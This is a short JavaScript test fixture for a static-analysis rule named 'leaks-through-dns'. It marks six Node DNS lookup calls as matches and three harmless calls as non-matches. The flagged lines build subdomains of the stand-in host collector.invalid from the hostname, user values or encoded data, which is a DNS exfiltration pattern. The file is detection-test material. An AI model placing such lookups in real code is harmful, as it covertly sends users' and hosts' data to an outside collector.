const dns = require("dns");
const { resolve4 } = require("node:dns");
import { lookup } from "dns/promises";
import * as names from "node:dns";

// ruleid: leaks-through-dns
dns.lookup(`${os.hostname()}.collector.invalid`, () => {});
// ruleid: leaks-through-dns
dns.resolveTxt(label + ".collector.invalid", () => {});
// ruleid: leaks-through-dns
resolve4([part, id, "collector.invalid"].join("."), () => {});
// ruleid: leaks-through-dns
await lookup(hex + ".collector.invalid");
// ruleid: leaks-through-dns
names.resolve(`${part}.collector.invalid`, () => {});
// ruleid: leaks-through-dns
require("dns").promises.lookup(user + ".collector.invalid");

// ok: leaks-through-dns
dns.lookup("example.test", () => {});
// ok: leaks-through-dns
const file = path.resolve(__dirname + "/lib");
// ok: leaks-through-dns
dns.lookup(url.hostname, () => {});
